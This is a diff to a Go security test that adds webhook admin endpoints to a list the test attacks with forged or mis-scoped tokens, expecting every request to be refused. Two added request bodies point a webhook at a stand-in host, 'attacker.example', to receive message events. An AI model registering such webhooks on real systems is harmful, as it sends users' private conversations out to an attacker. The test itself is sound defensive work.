@@ -55,7 +55,8 @@ func (s *stack) boundToken(org, sub string, admin bool) string {
 	return token
 }
 
-// endpoint is one operation of the API; {id} in path stands for a conversation id.
+// endpoint is one operation of the API; {id} in path stands for a conversation id (a webhook
+// endpoint's id on /admin/webhooks, where a token attack never gets as far as the id).
 type endpoint struct {
 	method, path string
 	// body is a valid body: were the request let through, it would do what it asks.
@@ -81,6 +82,14 @@ var tenantEndpoints = []endpoint{
 	{"POST", "/api/v1/chat/{id}/read", nil},
 	{"GET", "/api/v1/admin/settings", nil},
 	{"PUT", "/api/v1/admin/settings", map[string]any{"away_prompt": "let me in"}},
+	{"GET", "/api/v1/admin/webhooks", nil},
+	{"POST", "/api/v1/admin/webhooks", map[string]any{"url": "https://attacker.example/hook", "events": []string{"message.created"}}},
+	{"GET", "/api/v1/admin/webhooks/{id}", nil},
+	{"PATCH", "/api/v1/admin/webhooks/{id}", map[string]any{"url": "https://attacker.example/hook"}},
+	{"DELETE", "/api/v1/admin/webhooks/{id}", nil},
+	{"POST", "/api/v1/admin/webhooks/{id}/rotate-secret", nil},
+	{"GET", "/api/v1/admin/webhooks/{id}/deliveries", nil},
+	{"POST", "/api/v1/admin/webhooks/{id}/deliveries/:delivery_id/redeliver", nil},
 }
 
 var (
@@ -225,7 +234,8 @@ func TestSecurityTokenAttacks(t *testing.T) {
 		return string(admin.do("GET", "/api/v1/chat/list?messages=20", nil).Body) +
 			string(admin.do("GET", "/api/v1/admin/settings", nil).Body) +
 			string(boundAdmin.do("GET", "/api/v1/chat/list?messages=20", nil).Body) +
-			string(boundAdmin.do("GET", "/api/v1/admin/settings", nil).Body)
+			string(boundAdmin.do("GET", "/api/v1/admin/settings", nil).Body) +
+			string(admin.do("GET", "/api/v1/admin/webhooks", nil).Body)
 	}
 	before := state()
 
